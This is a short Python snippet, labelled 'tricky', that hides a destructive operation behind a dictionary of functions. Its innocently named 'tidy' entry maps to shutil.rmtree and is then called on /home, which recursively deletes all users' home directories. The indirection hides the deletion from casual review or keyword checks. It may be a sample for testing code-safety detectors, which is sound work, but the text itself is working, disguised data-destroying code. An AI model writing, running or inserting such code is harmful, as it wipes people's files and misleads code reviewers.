# tricky: a table of functions
import os, shutil
ops = {"info": os.stat, "tidy": shutil.rmtree}
ops["tidy"](os.path.join(os.sep, "home"))
